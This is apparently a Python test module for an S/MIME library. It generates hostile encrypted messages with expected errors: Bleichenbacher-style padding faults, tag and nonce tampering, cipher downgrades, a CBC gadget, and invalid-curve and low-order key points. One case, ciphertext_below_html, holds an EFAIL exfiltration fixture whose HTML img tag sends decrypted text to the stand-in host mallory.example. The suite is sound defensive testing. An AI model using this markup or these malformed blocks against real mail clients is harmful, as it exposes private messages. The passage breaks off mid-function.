"""Hostile encrypted messages: keys, tags, parameters, public keys (numbers 8 to 13 of the list; rows E1 to E4, DZ, PB of the table)."""

from __future__ import annotations

import secrets
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from tests.hostile.builder import ENTITY, HEADER, NOW, algorithm, opaque, pki
from tests.hostile.mails import _indefinite, _mixed

import smime
from smime import policies
from smime.asn1 import writer
from smime.asn1.algorithm import AlgorithmIdentifier
from smime.cms import attributes as attrs
from smime.cms.auth_enveloped_data import build_auth_enveloped_data
from smime.cms.compressed_data import build_compressed_data
from smime.cms.content_info import DATA
from smime.cms.enveloped_data import build_enveloped_data
from smime.cms.identifiers import IssuerAndSerialNumber, KEKIdentifier
from smime.cms.recipient_info import (
    KEKRecipientInfo,
    KEMRecipientInfo,
    KeyAgreeRecipientInfo,
    KeyTransRecipientInfo,
    OriginatorPublicKey,
    OtherRecipientInfo,
    PasswordRecipientInfo,
    RecipientEncryptedKey,
)
from smime.crypto import content_encryption, kem, key_agreement, key_transport, key_wrap, pwri
from smime.errors import (
    DecryptionFailed,
    LimitExceeded,
    NoMatchingRecipient,
    NotProtected,
    ParseError,
    PolicyError,
    SMIMEError,
    UnsupportedError,
)
from smime.pki.throwaway import Person
from smime.x509.certificate import Certificate

V15 = algorithm("1.2.840.113549.1.1.1", writer.NULL)
PASSWORD = smime.Password("correct horse")
KEK = smime.KeyEncryptionKey(b"kek", bytes(range(32)))


@lru_cache(maxsize=16)
def recipient(key: str) -> Person:
    """Return somebody to encrypt to; the first word is the kind of key."""
    return pki().person(f"recipient {key}", "bob@example.org", key.split(maxsplit=1)[0])


def identity(key: str) -> smime.Identity:
    """Return the same with the key."""
    return smime.Identity(recipient(key).private_key, recipient(key).certificate)


def rid(key: str) -> IssuerAndSerialNumber:
    """Return how a message names them."""
    own = Certificate.of_any(recipient(key).certificate)
    return IssuerAndSerialNumber(own.issuer_raw, own.serial)


@dataclass
class Envelope:
    """An AuthEnvelopedData or EnvelopedData in the making.

    Attributes:
        cipher: name of the content encryption.
        content: what is encrypted.
        key: the content encryption key; default fresh.
        infos: makes the RecipientInfos from the key; default: RSAES-OAEP to `recipient`.
        algorithm: edits contentEncryptionAlgorithm as written.
        ciphertext, tag: edit these.
        auth_attrs: the DER SET that is authenticated.
        written_attrs: what stands in the message instead.
        authenticated: AuthEnvelopedData or EnvelopedData, whatever the cipher.
        aead_tag_length: of the tag as made.
    """

    cipher: str = "aes-256-gcm"
    content: bytes = ENTITY
    key: bytes | None = None
    infos: Callable[[bytes], list[bytes]] | None = None
    algorithm: Callable[[AlgorithmIdentifier], AlgorithmIdentifier] = lambda found: found
    ciphertext: Callable[[bytes], bytes] = lambda octets: octets
    tag: Callable[[bytes], bytes] = lambda octets: octets
    auth_attrs: bytes | None = None
    written_attrs: Any = field(default=...)
    authenticated: bool | None = None
    content_type: str = DATA
    cek_hkdf: bool = False

    def der(self) -> bytes:
        """Return the ContentInfo."""
        key = self.key or content_encryption.new_key(self.cipher)
        stated, encrypted, tag = content_encryption.encrypt(
            self.cipher, key, self.content, aad=self.auth_attrs or b"", cek_hkdf=self.cek_hkdf
        )
        infos = (self.infos or _oaep)(key)
        stated, encrypted = self.algorithm(stated), self.ciphertext(encrypted)
        authenticated = tag is not None if self.authenticated is None else self.authenticated
        if not authenticated:
            return build_enveloped_data(recipient_infos=infos, content_encryption_algorithm=stated, encrypted_content=encrypted)
        return build_auth_enveloped_data(
            recipient_infos=infos,
            content_encryption_algorithm=stated,
            encrypted_content=encrypted,
            mac=self.tag(tag or b""),
            auth_attrs=self.auth_attrs if self.written_attrs is ... else self.written_attrs,
            content_type=self.content_type,
        )


def _oaep(key: bytes) -> list[bytes]:
    return _transport(key_transport.oaep_algorithm())(key)


def _transport(stated: AlgorithmIdentifier, edit: Callable[[bytes], bytes] = lambda octets: octets) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        encrypted = key_transport.encrypt(recipient("rsa2048").public_key, stated, key)
        return [KeyTransRecipientInfo.build(rid("rsa2048"), stated, edit(encrypted))]

    return infos


@dataclass(frozen=True)
class Case:
    """One deviation; `error` None: it decrypts."""

    name: str
    description: str
    section: str
    error: type[SMIMEError] | None
    make: Callable[[], bytes]
    identities: tuple[Any, ...]
    policy: smime.Policy


CASES: dict[str, Case] = {}


def case(
    section: str, error: type[SMIMEError] | None, *identities: Any, policy: smime.Policy = policies.RFC8551
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register the function that makes a message; default identity: the RSA recipient."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        assert make.__doc__
        assert make.__name__ not in CASES, make.__name__
        CASES[make.__name__] = Case(make.__name__, make.__doc__, section, error, make, identities, policy)
        return make

    return register


# -- 8: one failure for every fault of a key (RFC 3218, RFC 8017 sections 7.1.2 and 7.2.2) --


@case("18.8", None)
def oaep_right() -> bytes:
    """RSAES-OAEP and AES-GCM: the control for the cases below."""
    return Envelope().der()


@case("18.8", None)
def v15_right() -> bytes:
    """PKCS #1 v1.5 and AES-CBC: the control for the cases below."""
    return Envelope("aes-256-cbc", infos=_transport(V15)).der()


def _raw(block: Callable[[bytes, int], bytes]) -> Callable[[bytes], list[bytes]]:
    """Return RecipientInfos whose RSA block is made by hand."""

    def infos(key: bytes) -> list[bytes]:
        numbers = recipient("rsa2048").public_key.public_numbers()
        size = (numbers.n.bit_length() + 7) // 8
        octets = block(key, size)
        value = pow(int.from_bytes(octets, "big"), numbers.e, numbers.n).to_bytes(size, "big")
        return [KeyTransRecipientInfo.build(rid("rsa2048"), V15, value)]

    return infos


def _filled(count: int) -> bytes:
    return bytes(1 + octet % 255 for octet in secrets.token_bytes(count))


_BLOCKS: dict[str, tuple[str, Callable[[bytes, int], bytes]]] = {
    "first_octet": ("the first octet is not zero", lambda key, size: b"\x01\x02" + _filled(size - 3 - len(key)) + b"\0" + key),
    "block_type_1": ("block type 1", lambda key, size: b"\0\x01" + b"\xff" * (size - 3 - len(key)) + b"\0" + key),
    "no_separator": ("no zero octet before the key", lambda key, size: b"\0\x02" + _filled(size - 2)),
    "short_filling": ("a filling of seven octets", lambda key, size: b"\0\x02" + _filled(7) + b"\0" + bytes(size - 10 - len(key)) + key),
    "no_filling": ("no filling at all", lambda key, size: b"\0\x02\0" + bytes(size - 3 - len(key)) + key),
    "short_key": ("a key of 16 octets where 32 belong", lambda key, size: b"\0\x02" + _filled(size - 19) + b"\0" + key[:16]),
    "long_key": ("a key of 33 octets where 32 belong", lambda key, size: b"\0\x02" + _filled(size - 36) + b"\0" + key + b"x"),
    "empty_key": ("an empty key", lambda key, size: b"\0\x02" + _filled(size - 3) + b"\0"),
    "all_zero": ("zeros alone", lambda key, size: bytes(size)),
}


def _padding_case(name: str, description: str, block: Callable[[bytes, int], bytes], cipher: str) -> None:
    def make() -> bytes:
        return Envelope(cipher, infos=_raw(block)).der()

    make.__doc__ = f"PKCS #1 v1.5 with {description}, content by {cipher}: like any other failure (Bleichenbacher 1998, RFC 3218)."
    make.__name__ = f"v15_{name}_{cipher.rpartition('-')[2]}"
    case("E4", DecryptionFailed)(make)


for _name, (_description, _block) in _BLOCKS.items():
    _padding_case(_name, _description, _block, "aes-256-gcm")
    _padding_case(_name, _description, _block, "aes-256-cbc")


@case("E4", DecryptionFailed)
def v15_too_short() -> bytes:
    """An encrypted key one octet shorter than the modulus."""
    return Envelope(infos=_transport(V15, lambda octets: octets[1:])).der()


@case("E4", DecryptionFailed)
def v15_empty() -> bytes:
    """An empty encrypted key."""
    return Envelope(infos=_transport(V15, lambda octets: b"")).der()


@case("E4", DecryptionFailed)
def v15_above_the_modulus() -> bytes:
    """An encrypted key that is all ones, above the modulus."""
    return Envelope(infos=_transport(V15, lambda octets: b"\xff" * len(octets))).der()


@case("E4", DecryptionFailed)
def oaep_changed() -> bytes:
    """RSAES-OAEP with one changed bit (Manger 2001)."""
    return Envelope(infos=_transport(key_transport.oaep_algorithm(), _flip)).der()


@case("E4", DecryptionFailed)
def oaep_other_label() -> bytes:
    """RSAES-OAEP stated with another label than it was made with."""
    made = key_transport.oaep_algorithm()
    stated = key_transport.oaep_algorithm(label=b"other")

    def infos(key: bytes) -> list[bytes]:
        encrypted = key_transport.encrypt(recipient("rsa2048").public_key, made, key)
        return [KeyTransRecipientInfo.build(rid("rsa2048"), stated, encrypted)]

    return Envelope(infos=infos).der()


@case("E4", DecryptionFailed)
def oaep_key_too_short() -> bytes:
    """RSAES-OAEP around a key of 16 octets where 32 belong."""

    def infos(key: bytes) -> list[bytes]:
        return _oaep(key[:16])

    return Envelope(infos=infos).der()


@case("E4", DecryptionFailed)
def v15_block_called_oaep() -> bytes:
    """A PKCS #1 v1.5 block that is announced as RSAES-OAEP."""

    def infos(key: bytes) -> list[bytes]:
        encrypted = recipient("rsa2048").public_key.encrypt(key, padding.PKCS1v15())
        return [KeyTransRecipientInfo.build(rid("rsa2048"), key_transport.oaep_algorithm(), encrypted)]

    return Envelope(infos=infos).der()


def _flip(octets: bytes) -> bytes:
    return octets[:-1] + bytes([octets[-1] ^ 1])


def _kek_infos(edit: Callable[[bytes], bytes]) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        stated = key_wrap.algorithm_identifier(key_wrap.wrap_for(32))
        return [KEKRecipientInfo.build(KEKIdentifier(KEK.key_id), stated, edit(key_wrap.wrap(stated, KEK.key, key)))]

    return infos


@case("18.8", None, KEK)
def key_wrap_right() -> bytes:
    """AES key wrap: the control."""
    return Envelope(infos=_kek_infos(lambda octets: octets)).der()


@case("E4", DecryptionFailed, KEK)
def key_wrap_changed() -> bytes:
    """AES key wrap with one changed bit."""
    return Envelope(infos=_kek_infos(_flip)).der()


@case("E4", DecryptionFailed, KEK)
def key_wrap_cut() -> bytes:
    """AES key wrap, one block short."""
    return Envelope(infos=_kek_infos(lambda octets: octets[:-8])).der()


@case("E4", DecryptionFailed, KEK)
def key_wrap_not_of_blocks() -> bytes:
    """AES key wrap of 39 octets."""
    return Envelope(infos=_kek_infos(lambda octets: octets[:-1])).der()


def _password_infos(edit: Callable[[bytes], bytes]) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        derivation, stated, wrapped = pwri.wrap(PASSWORD.secret, key, iterations=1000)
        return [PasswordRecipientInfo.build(derivation, stated, edit(wrapped))]

    return infos


@case("18.8", None, PASSWORD)
def password_right() -> bytes:
    """PWRI-KEK: the control."""
    return Envelope(infos=_password_infos(lambda octets: octets)).der()


@case("E4", DecryptionFailed, PASSWORD)
def password_changed() -> bytes:
    """PWRI-KEK with one changed bit (RFC 3211 section 2.3.2)."""
    return Envelope(infos=_password_infos(_flip)).der()


@case("E4", DecryptionFailed, PASSWORD)
def password_one_block() -> bytes:
    """PWRI-KEK of a single block, where two belong."""
    return Envelope(infos=_password_infos(lambda octets: octets[:16])).der()


@case("E4", DecryptionFailed, PASSWORD)
def password_empty() -> bytes:
    """PWRI-KEK of no octets."""
    return Envelope(infos=_password_infos(lambda octets: b"")).der()


def _kem_infos(edit: Callable[[bytes], bytes] = lambda octets: octets, **changes: Any) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        made = kem.wrap(recipient("mlkem768").public_key, key)
        fields = {
            "kem": made.kem,
            "kemct": edit(made.ciphertext),
            "kdf": made.kdf,
            "kek_length": made.kek_length,
            "wrap": made.wrap,
            "encrypted_key": made.encrypted_key,
        } | changes
        return [KEMRecipientInfo.build(rid("mlkem768"), **fields)]

    return infos


@case("18.8", None, "mlkem768")
def kem_right() -> bytes:
    """ML-KEM-768: the control."""
    return Envelope(infos=_kem_infos()).der()


@case("E4", DecryptionFailed, "mlkem768")
def kem_changed() -> bytes:
    """ML-KEM-768 with one changed bit: implicit rejection shows as a failed unwrap."""
    return Envelope(infos=_kem_infos(_flip)).der()


@case("E4", DecryptionFailed, "mlkem768")
def kem_wrong_size() -> bytes:
    """ML-KEM-768 with a ciphertext of 1087 octets."""
    return Envelope(infos=_kem_infos(lambda octets: octets[:-1])).der()


@case("18.8", ParseError, "mlkem768")
def kem_key_length_lies() -> bytes:
    """kekLength 16 with an AES-256 wrap (RFC 9629 section 3: R MUST check)."""
    return Envelope(infos=_kem_infos(kek_length=16)).der()


def _for_another(stated: AlgorithmIdentifier) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        encrypted = key_transport.encrypt(recipient("rsa2048 of somebody else").public_key, stated, key)
        return [KeyTransRecipientInfo.build(rid("rsa2048"), stated, encrypted)]

    return infos


@case("18.8", DecryptionFailed)
def v15_for_another_key() -> bytes:
    """PKCS #1 v1.5 under the key of somebody else, although we are named."""
    return Envelope(infos=_for_another(V15)).der()


@case("18.8", DecryptionFailed)
def oaep_for_another_key() -> bytes:
    """RSAES-OAEP under the key of somebody else, although we are named."""
    return Envelope(infos=_for_another(key_transport.oaep_algorithm())).der()


@case("18.8", DecryptionFailed, "mlkem768")
def kem_for_another_key() -> bytes:
    """ML-KEM-768 under the key of somebody else, although we are named."""

    def infos(key: bytes) -> list[bytes]:
        made = kem.wrap(recipient("mlkem768 of somebody else").public_key, key)
        return [
            KEMRecipientInfo.build(rid("mlkem768"), made.kem, made.ciphertext, made.kdf, made.kek_length, made.wrap, made.encrypted_key)
        ]

    return Envelope(infos=infos).der()


@case("18.8", NoMatchingRecipient)
def for_somebody_else() -> bytes:
    """A message for somebody else."""
    return Envelope(infos=_kek_infos(lambda octets: octets)).der()


@case("18.8", NoMatchingRecipient)
def unknown_recipients_alone() -> bytes:
    """Nothing but a RecipientInfo nobody knows."""
    return Envelope(infos=lambda key: [OtherRecipientInfo.build("1.2.3.4", writer.NULL)]).der()


@case("18.8", None)
def unknown_recipients_too() -> bytes:
    """A RecipientInfo nobody knows beside a known one (RFC 5652 section 6.2: handle gracefully)."""
    return Envelope(infos=lambda key: [OtherRecipientInfo.build("1.2.3.4", writer.NULL), *_oaep(key)]).der()


@case("18.8", None)
def a_broken_recipient_too() -> bytes:
    """Two RecipientInfos for the same key, the first of which does not open."""
    return Envelope(infos=lambda key: [*_transport(key_transport.oaep_algorithm(), _flip)(key), *_oaep(key)]).der()


@case("18.8", ParseError)
def no_recipients() -> bytes:
    """An empty set of RecipientInfos."""
    return Envelope(infos=lambda key: []).der()


# -- 9: tags and nonces (RFC 5083, RFC 5084, RFC 8103) --


def _parameters(nonce: bytes | None = None, length: int | None = -1) -> Callable[[AlgorithmIdentifier], AlgorithmIdentifier]:
    """Return an edit of the parameters of GCM or CCM."""

    def edit(stated: AlgorithmIdentifier) -> AlgorithmIdentifier:
        parameters = content_encryption.parse_parameters(stated)
        octets = parameters.iv if nonce is None else nonce
        size = parameters.icv_length if length == -1 else length
        return algorithm(stated.oid, writer.sequence(writer.octet_string(octets), b"" if size is None else writer.integer(size)))

    return edit


def _tag_case(name: str, description: str, error: type[SMIMEError] | None, length: int | None, cut: int) -> None:
    def make() -> bytes:
        return Envelope(algorithm=_parameters(length=length), tag=lambda octets: octets[:cut]).der()

    make.__doc__ = f"AES-GCM: {description} (RFC 5084 section 3.2)."
    make.__name__ = f"gcm_{name}"
    case("18.9", error)(make)


_tag_case("tag_of_12_announced", "a tag of 12 octets, announced", None, 12, 12)
_tag_case("tag_of_12_default", "ICVlen absent and a tag of 12 octets", None, None, 12)
_tag_case("tag_of_16_unannounced", "ICVlen absent and a whole tag of 16 octets, as in the sample of RFC 8551 section 3.4", None, None, 16)
_tag_case("tag_of_12_where_16_is_announced", "ICVlen 16 and a tag cut to 12 octets", DecryptionFailed, 16, 12)
_tag_case("tag_of_16_where_12_is_announced", "ICVlen 12 and a tag of 16 octets", DecryptionFailed, 12, 16)
_tag_case("tag_of_8", "ICVlen absent and a tag cut to 8 octets", DecryptionFailed, None, 8)
_tag_case("tag_of_4", "ICVlen absent and a tag cut to 4 octets", DecryptionFailed, None, 4)
_tag_case("tag_of_0", "ICVlen absent and an empty tag", DecryptionFailed, None, 0)
_tag_case("tag_of_8_announced", "ICVlen 8", ParseError, 8, 8)
_tag_case("tag_of_0_announced", "ICVlen 0", ParseError, 0, 0)
_tag_case("tag_of_17_announced", "ICVlen 17", ParseError, 17, 16)
_tag_case("tag_of_minus_1_announced", "ICVlen minus 1", ParseError, -2, 16)


@case("18.9", DecryptionFailed)
def gcm_tag_changed() -> bytes:
    """AES-GCM with one changed bit of the tag."""
    return Envelope(tag=_flip).der()


@case("18.9", DecryptionFailed)
def gcm_ciphertext_changed() -> bytes:
    """AES-GCM with one changed bit of the ciphertext."""
    return Envelope(ciphertext=_flip).der()


@case("18.9", DecryptionFailed)
def gcm_ciphertext_cut() -> bytes:
    """AES-GCM whose last octet of ciphertext is missing."""
    return Envelope(ciphertext=lambda octets: octets[:-1]).der()


@case("18.9", DecryptionFailed)
def gcm_nonce_changed() -> bytes:
    """AES-GCM with another nonce than was used."""
    return Envelope(algorithm=_parameters(nonce=bytes(12))).der()


@case("18.9", ParseError)
def gcm_nonce_empty() -> bytes:
    """AES-GCM with an empty nonce."""
    return Envelope(algorithm=_parameters(nonce=b"")).der()


@case("18.9", ParseError)
def gcm_without_parameters() -> bytes:
    """AES-GCM without parameters."""
    return Envelope(algorithm=lambda stated: algorithm(stated.oid)).der()


@case("18.9", ParseError)
def ccm_nonce_of_6() -> bytes:
    """AES-CCM with a nonce of 6 octets (RFC 5084 section 3.1: 7 to 13)."""
    return Envelope("aes-256-ccm", algorithm=_parameters(nonce=bytes(6))).der()


@case("18.9", ParseError)
def ccm_nonce_of_14() -> bytes:
    """AES-CCM with a nonce of 14 octets."""
    return Envelope("aes-256-ccm", algorithm=_parameters(nonce=bytes(14))).der()


@case("18.9", ParseError)
def ccm_tag_of_4() -> bytes:
    """AES-CCM with a tag of 4 octets, which the RFC allows and this library does not."""
    return Envelope("aes-256-ccm", algorithm=_parameters(length=4), tag=lambda octets: octets[:4]).der()


@case("18.9", DecryptionFailed)
def ccm_changed() -> bytes:
    """AES-CCM with one changed bit of the ciphertext."""
    return Envelope("aes-256-ccm", ciphertext=_flip).der()


@case("18.9", DecryptionFailed)
def chacha_changed() -> bytes:
    """ChaCha20-Poly1305 with one changed bit of the tag."""
    return Envelope("chacha20-poly1305", tag=_flip).der()


@case("18.9", DecryptionFailed)
def chacha_tag_cut() -> bytes:
    """ChaCha20-Poly1305 with a tag of 12 octets."""
    return Envelope("chacha20-poly1305", tag=lambda octets: octets[:12]).der()


@case("18.9", ParseError)
def chacha_nonce_of_8() -> bytes:
    """ChaCha20-Poly1305 with a nonce of 8 octets (RFC 8103 section 3: 12)."""
    return Envelope("chacha20-poly1305", algorithm=lambda stated: algorithm(stated.oid, writer.octet_string(bytes(8)))).der()


_ATTRIBUTES = writer.set_of([attrs.content_type(DATA), attrs.signing_time(NOW)])


def _attribute_case(name: str, description: str, error: type[SMIMEError] | None, cipher: str, **options: Any) -> None:
    def make() -> bytes:
        return Envelope(cipher, **options).der()

    make.__doc__ = f"{cipher}: {description} (RFC 5083 section 2.2)."
    make.__name__ = f"attributes_{name}_{cipher.replace('-', '_')}"
    case("18.9", error)(make)


for _cipher in ("aes-256-gcm", "aes-256-ccm", "chacha20-poly1305"):
    _attribute_case("right", "authenticated attributes", None, _cipher, auth_attrs=_ATTRIBUTES)
    _attribute_case(
        "removed", "authenticated attributes are removed", DecryptionFailed, _cipher, auth_attrs=_ATTRIBUTES, written_attrs=None
    )
    _attribute_case("added", "attributes are added that were not authenticated", DecryptionFailed, _cipher, written_attrs=_ATTRIBUTES)
    _attribute_case(
        "changed",
        "an authenticated attribute is changed",
        DecryptionFailed,
        _cipher,
        auth_attrs=_ATTRIBUTES,
        written_attrs=writer.set_of([attrs.content_type("1.2.3"), attrs.signing_time(NOW)]),
    )


# -- 10: downgrades and gadgets (RFC 9709; Poddebniak et al. 2018, EFAIL) --


@case("E3", ParseError)
def gcm_in_enveloped_data() -> bytes:
    """AES-GCM in EnvelopedData, without a tag."""
    return Envelope(authenticated=False).der()


@case("E3", ParseError)
def cbc_in_auth_enveloped_data() -> bytes:
    """AES-CBC in AuthEnvelopedData, which then authenticates nothing."""
    return Envelope("aes-256-cbc", authenticated=True, tag=lambda octets: bytes(16)).der()


@case("E3", DecryptionFailed)
def gcm_called_cbc() -> bytes:
    """A GCM message re-wrapped as CBC under the same key (the downgrade that RFC 9709 is about), padding by chance wrong."""
    return Envelope(
        content=bytes(48),
        authenticated=False,
        algorithm=lambda stated: content_encryption.algorithm_identifier("aes-256-cbc", bytes(16)),
    ).der()


@case("E3", None)
def derived_key_right() -> bytes:
    """cek-hkdf-sha256 around AES-GCM (RFC 9709): the control."""
    return Envelope(cek_hkdf=True).der()


@case("E3", DecryptionFailed)
def derived_key_called_plain() -> bytes:
    """cek-hkdf-sha256 is taken away: the inner algorithm alone is stated."""
    return Envelope(cek_hkdf=True, algorithm=lambda stated: AlgorithmIdentifier.from_raw(stated.parameters or b"")).der()


@case("E3", DecryptionFailed)
def derived_key_with_another_inner_algorithm() -> bytes:
    """The inner algorithm identifier of cek-hkdf-sha256 is changed: another key comes out."""

    def edit(stated: AlgorithmIdentifier) -> AlgorithmIdentifier:
        inner = content_encryption.algorithm_identifier("aes-256-gcm", bytes(12))
        return algorithm(stated.oid, inner.raw)

    return Envelope(cek_hkdf=True, algorithm=edit).der()


@case("E3", SMIMEError)
def derived_key_within_itself() -> bytes:
    """cek-hkdf-sha256 around cek-hkdf-sha256."""
    return Envelope(cek_hkdf=True, algorithm=lambda stated: algorithm(stated.oid, stated.raw)).der()


@case("E4", DecryptionFailed)
def cbc_padding_zero() -> bytes:
    """CBC whose padding octet is zero (RFC 5652 section 6.3: 1 to the block size)."""
    return Envelope("aes-256-cbc", ciphertext=_cbc_with_padding(0)).der()


@case("E4", DecryptionFailed)
def cbc_padding_17() -> bytes:
    """CBC whose padding octet is 17."""
    return Envelope("aes-256-cbc", ciphertext=_cbc_with_padding(17)).der()


@case("E4", DecryptionFailed)
def cbc_not_of_blocks() -> bytes:
    """CBC whose ciphertext is no multiple of the block."""
    return Envelope("aes-256-cbc", ciphertext=lambda octets: octets[:-1]).der()


@case("E4", DecryptionFailed)
def cbc_empty() -> bytes:
    """CBC without a single block."""
    return Envelope("aes-256-cbc", ciphertext=lambda octets: b"").der()


def _cbc_with_padding(value: int) -> Callable[[bytes], bytes]:
    pad = 16 - len(ENTITY) % 16

    def edit(octets: bytes) -> bytes:
        changed = bytearray(octets)
        changed[-17] ^= pad ^ value  # the last octet of the block before decides the last octet of the plaintext
        return bytes(changed)

    return edit


@case("E2", None)
def cbc_gadget() -> bytes:
    """CBC with a gadget: a block of the ciphertext is changed, so the next says what an attacker wants. It decrypts: nothing can notice."""

    def edit(octets: bytes) -> bytes:
        changed = bytearray(octets)
        changed[0] ^= 1
        return bytes(changed)

    return Envelope("aes-256-cbc", content=ENTITY * 4, ciphertext=edit).der()


@case("E1", NotProtected)
def ciphertext_below_html() -> bytes:
    """Ciphertext as the second of three parts, between HTML that would send it away (EFAIL, direct exfiltration)."""
    part = opaque(Envelope().der(), header=b"", smime_type="authEnveloped-data")
    html = b"Content-Type: text/html\r\n\r\n"
    return _mixed(html + b"<img src='http://mallory.example/?\r\n", part, html + b"'>\r\n")


@case("E1", NotProtected)
def ciphertext_in_a_forwarded_mail() -> bytes:
    """Ciphertext in an attached mail."""
    return HEADER + b"Content-Type: message/rfc822\r\n\r\n" + opaque(Envelope().der(), smime_type="authEnveloped-data")


@case("AS", PolicyError)
def triple_des() -> bytes:
    """3DES under the default policy."""
    return _triple_des()


@case("AS", None, policy=policies.ARCHIVE)
def triple_des_in_an_archive() -> bytes:
    """3DES under the archive policy."""
    return _triple_des()


def _triple_des() -> bytes:
    from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
    from cryptography.hazmat.primitives.ciphers import Cipher, modes

    key, iv = secrets.token_bytes(24), secrets.token_bytes(8)
    pad = 8 - len(ENTITY) % 8
    encryptor = Cipher(TripleDES(key), modes.CBC(iv)).encryptor()
    encrypted = encryptor.update(ENTITY + bytes([pad]) * pad) + encryptor.finalize()
    stated = algorithm("1.2.840.113549.3.7", writer.octet_string(iv))
    return build_enveloped_data(recipient_infos=_transport(V15)(key), content_encryption_algorithm=stated, encrypted_content=encrypted)


# -- 11: public keys of key agreement (RFC 5753, RFC 8418) --


def _agreement(
    kind: str,
    edit: Callable[[bytes], bytes] = lambda octets: octets,
    originator: AlgorithmIdentifier | None = None,
    ukm: bytes | None = None,
) -> Callable[[bytes], list[bytes]]:
    def infos(key: bytes) -> list[bytes]:
        public_key = recipient(kind).public_key
        ephemeral = key_agreement.EphemeralKey(public_key)
        stated = key_agreement.choose(public_key, len(key))
        wrapped = ephemeral.wrap(public_key, stated, key, ukm=ukm)
        sender = OriginatorPublicKey(originator or ephemeral.algorithm, edit(ephemeral.public_key))
        return [KeyAgreeRecipientInfo.build(sender, stated, [RecipientEncryptedKey(rid(kind), wrapped)], ukm)]

    return infos


@case("18.11", None, "p256")
def agreement_right() -> bytes:
    """ECDH on P-256 without ukm: the control."""
    return Envelope(infos=_agreement("p256")).der()


@case("18.11", None, "p256")
def agreement_with_ukm() -> bytes:
    """ECDH on P-256 with ukm."""
    return Envelope(infos=_agreement("p256", ukm=b"user keying material")).der()


def _agreement_with(*, made: bytes | None, told: bytes | None) -> Callable[[bytes], list[bytes]]:
    """Return RecipientInfos that state another ukm than the one that went into the key."""

    def infos(key: bytes) -> list[bytes]:
        public_key = recipient("p256").public_key
        ephemeral = key_agreement.EphemeralKey(public_key)
        stated = key_agreement.choose(public_key, len(key))
        wrapped = RecipientEncryptedKey(rid("p256"), ephemeral.wrap(public_key, stated, key, ukm=made))
        return [KeyAgreeRecipientInfo.build(OriginatorPublicKey(ephemeral.algorithm, ephemeral.public_key), stated, [wrapped], told)]

    return infos


@case("18.11", DecryptionFailed, "p256")
def agreement_ukm_removed() -> bytes:
    """ECDH on P-256 whose ukm was taken away: it goes into the key (RFC 5753 section 7.2)."""
    return Envelope(infos=_agreement_with(made=b"user keying material", told=None)).der()


@case("18.11", DecryptionFailed, "p256")
def agreement_ukm_added() -> bytes:
    """ECDH on P-256 with a ukm that did not go into the key, an empty one."""
    return Envelope(infos=_agreement_with(made=None, told=b"")).der()


@case("18.11", DecryptionFailed, "p256")
def agreement_ukm_changed() -> bytes:
    """ECDH on P-256 with another ukm."""
    return Envelope(infos=_agreement_with(made=b"user keying material", told=b"user keying Material")).der()


@case("18.11", SMIMEError, "p256")
def agreement_point_off_the_curve() -> bytes:
    """The originator's point is not on the curve (invalid-curve attack)."""
    return Envelope(infos=_agreement("p256", _flip)).der()


@case("18.11", SMIMEError, "p256")
def agreement_point_at_infinity() -> bytes:
    """The originator's point is the point at infinity."""
    return Envelope(infos=_agreement("p256", lambda octets: b"\0")).der()


@case("18.11", SMIMEError, "p256")
def agreement_hybrid_point() -> bytes:
    """The originator's point in hybrid form (RFC 5753 section 7.1: MUST NOT)."""
    return Envelope(infos=_agreement("p256", lambda octets: bytes([6 + octets[-1] % 2]) + octets[1:])).der()


@case("18.11", None, "p256")
def agreement_compressed_point() -> bytes:
    """The originator's point in compressed form (RFC 5753 section 7.1: MAY)."""
    return Envelope(infos=_agreement("p256", lambda octets: bytes([2 + octets[-1] % 2]) + octets[1:33])).der()


@case("18.11", SMIMEError, "p256")
def agreement_other_curve() -> bytes:
    """The originator's algorithm names P-384, the recipient has P-256."""
    return Envelope(infos=_agreement("p256", originator=algorithm("1.2.840.10045.2.1", writer.oid("1.3.132.0.34")))).der()


@case("18.11", SMIMEError, "p256")
def agreement_point_of_another_curve() -> bytes:
    """The originator's point is one of P-384."""
    other = recipient("p384").public_key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    return Envelope(infos=_agreement("p256", lambda octets: other)).der()


@case("18.11", None, "p256")
def agreement_without_curve() -> bytes:
    """The originator's algorithm without parameters (RFC 5753 section 3.1.1: allowed)."""
    return Envelope(infos=_agreement("p256", originator=algorithm("1.2.840.10045.2.1"))).der()


@case("18.11", None, "p256")
def agreement_with_null() -> bytes:
    """The originator's algorithm with NULL for parameters (RFC 5753 section 3.1.1: older senders)."""
    return Envelope(infos=_agreement("p256", originator=algorithm("1.2.840.10045.2.1", writer.NULL))).der()


_LOW_ORDER = {
    "zero": bytes(32),
    "one": b"\x01" + bytes(31),
    "order_8": bytes.fromhex("e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800"),
    "p_minus_1": (2**255 - 20).to_bytes(32, "little"),
    "p": (2**255 - 19).to_bytes(32, "little"),
}


def _low_order_case(name: str, octets: bytes) -> None:
    def make() -> bytes:
        return Envelope(infos=_agreement("x25519", lambda old: octets)).der()

    make.__doc__ = f"X25519 with a public key of low order ({name}): the shared secret is zero (RFC 7748 section 6.1, RFC 8418 section 2)."
    make.__name__ = f"x25519_low_order_{name}"
    case("18.11", SMIMEError, "x25519")(make)


for _name, _octets in _LOW_ORDER.items():
    _low_order_case(_name, _octets)


@case("18.11", None, "x25519")
def x25519_right() -> bytes:
    """X25519: the control."""
    return Envelope(infos=_agreement("x25519", ukm=b"ukm")).der()


@case("18.11", None, "x25519")
def x25519_in_an_octet_string() -> bytes:
    """X25519 whose BIT STRING holds an OCTET STRING, as RFC 8418 section 3.2 can be read."""
    return Envelope(infos=_agreement("x25519", lambda octets: b"\x04\x20" + octets)).der()


@case("18.11", DecryptionFailed, "x25519")
def x25519_other_key() -> bytes:
